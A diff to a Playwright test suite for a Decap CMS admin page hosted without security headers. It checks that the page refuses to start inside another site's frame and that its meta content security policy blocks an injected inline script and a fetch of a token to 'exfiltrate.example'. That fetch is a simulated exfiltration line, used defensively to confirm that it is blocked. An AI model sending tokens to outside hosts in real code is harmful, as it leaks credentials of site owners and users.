@@ -1,7 +1,7 @@
 /**
- * /admin inside another site's frame, on a host that sends no headers (GitHub Pages cannot send
- * frame-ancestors; src/build/adminGuard.ts): the editor does not start, and the page says why in
- * Portuguese. Opened on its own, the same files start the editor.
+ * /admin on a host that sends no headers (GitHub Pages): its own meta policy is in force; inside
+ * another site's frame (a meta policy cannot carry frame-ancestors; src/build/adminGuard.ts) the
+ * editor does not start, and the page says why in Portuguese. Opened on its own, it starts.
  */
 import fs from "fs"
 import http from "http"
@@ -75,19 +75,38 @@ test("framed by another origin on a host without headers, /admin does not start 
   const frame = page.frameLocator("iframe")
   await expect(frame.getByRole("alert")).toHaveText(FRAMED_TEXTS.notice, { timeout: 60_000 })
   await expect(frame.getByRole("link", { name: FRAMED_TEXTS.link })).toHaveAttribute("href", adminUrl)
-  // Decap's bundle was fetched and waits for CMS.init, which never comes: nothing of it on the page.
+  // start.js never loads Decap there: nothing of it runs on the page.
   const editorFrame = page.frames().find((each) => each.url() === adminUrl)!
-  await expect
-    .poll(
-      () => editorFrame.evaluate(() => performance.getEntriesByType("resource").some((entry) => entry.name.endsWith("/decap-cms.js"))),
-      {
-        timeout: 60_000,
-      },
-    )
-    .toBe(true)
-  await page.waitForTimeout(1500)
   expect(await editorFrame.evaluate(() => (window as any).__editorRefused)).toBe(true)
+  await editorFrame.waitForFunction(() => document.readyState === "complete")
+  expect(await editorFrame.evaluate(() => "CMS" in window)).toBe(false)
   await expect(frame.getByRole("button")).toHaveCount(0)
   await expect(frame.locator("#nc-root")).toHaveCount(0)
   await expect(frame.getByText(PT_PT_OVERRIDES.auth.loginWithGitHub)).toHaveCount(0)
+})
+
+test("served without headers, /admin's own policy is in force: no inline script, no connection to another host", async ({ page }) => {
+  const violations: string[] = []
+  await page.exposeBinding("__violation", (_source, text: string) => violations.push(text))
+  await page.addInitScript(() =>
+    document.addEventListener("securitypolicyviolation", (event) =>
+      (window as any).__violation(`${event.violatedDirective} ${event.blockedURI}`),
+    ),
+  )
+  // Decap is not needed to judge the page's policy.
+  await page.route("**/admin/decap/**", (route) => route.abort())
+  const response = await page.goto(adminUrl)
+  expect(response?.headers()["content-security-policy"]).toBeUndefined()
+  const outcome = await page.evaluate(async () => {
+    const script = document.createElement("script")
+    script.textContent = "window.__inlineRan = true"
+    document.body.append(script)
+    const fetched = await fetch("https://exfiltrate.example/token").then(
+      () => "sent",
+      () => "blocked",
+    )
+    return { inlineRan: (window as any).__inlineRan === true, fetched }
+  })
+  expect(outcome).toEqual({ inlineRan: false, fetched: "blocked" })
+  await expect.poll(() => violations.join(" | ")).toMatch(/script-src-elem inline.*\| connect-src https:\/\/exfiltrate\.example/)
 })
